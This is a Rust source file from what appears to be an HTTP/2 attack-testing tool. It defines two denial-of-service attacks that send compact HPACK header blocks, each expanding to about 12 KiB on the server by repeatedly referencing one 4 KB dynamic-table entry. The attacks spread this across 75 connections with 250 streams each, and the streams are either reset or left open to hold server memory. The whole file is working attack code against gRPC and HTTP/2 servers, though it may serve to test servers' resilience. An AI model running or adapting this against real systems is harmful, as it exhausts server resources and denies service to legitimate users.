//! Heads that are long for the server and short on the wire. Those who send them then say nothing:
//! what is kept of the heads stays as long as the connection.

use crate::attacks::Attack;
use crate::frames::{head_of, reset};
use crate::legal::{HELLO, SMALL_CALLS};

/// Connections of one attacker of four, so that all have 300.
const CONNECTIONS_WITH_HEADS: usize = 75;
/// Streams that a connection may have open, where a server takes strangers.
const STREAMS: u32 = 250;
/// The value that a head names three times: with it, the head's list has 12 KiB.
const VALUE_BYTES: usize = 4_000;

pub const HEADS: [Attack; 2] = [
    Attack {
        name: "heads, reset",
        act: |attacker| {
            let resets = (0..STREAMS).flat_map(|stream| reset(2 * stream + 1));
            let bytes: Vec<u8> = heads().into_iter().chain(resets).collect();
            attacker.crowd(CONNECTIONS_WITH_HEADS, &bytes);
        },
        legal: SMALL_CALLS,
        path: HELLO,
    },
    Attack {
        name: "heads, left open",
        act: |attacker| attacker.crowd(CONNECTIONS_WITH_HEADS, &heads()),
        legal: SMALL_CALLS,
        path: HELLO,
    },
];

/// A head of 12 KiB for each stream that may be open, most of them 70 bytes on the wire: the first
/// puts a field of 4 KB into the table, and each names it three times. No two are alike.
fn heads() -> Vec<u8> {
    let mut fields = vec![0x83, 0x86];
    fields.extend(literal(0x00, b":path", HELLO.as_bytes()));
    fields.extend(literal(0x00, b"content-type", b"application/grpc"));
    let first = [&fields[..], &literal(0x40, b"x", &[b'v'; VALUE_BYTES]), &[0xbe; 2]].concat();
    let mut bytes = head_of(1, &first);
    for stream in 1..STREAMS {
        let differs = literal(0x00, b"u", stream.to_string().as_bytes());
        bytes.extend(head_of(2 * stream + 1, &[&fields[..], &[0xbe; 3], &differs].concat()));
    }
    bytes
}

/// A literal field of HPACK with a name of its own; `first` says whether it goes into the table
/// (RFC 7541, 6.2).
fn literal(first: u8, name: &[u8], value: &[u8]) -> Vec<u8> {
    let mut bytes = vec![first];
    for text in [name, value] {
        // An integer with a prefix of seven bits (RFC 7541, 5.1).
        if text.len() < 0x7f {
            bytes.push(text.len() as u8);
        } else {
            let mut rest = text.len() - 0x7f;
            bytes.push(0x7f);
            while rest >= 0x80 {
                bytes.push(rest as u8 | 0x80);
                rest >>= 7;
            }
            bytes.push(rest as u8);
        }
        bytes.extend_from_slice(text);
    }
    bytes
}
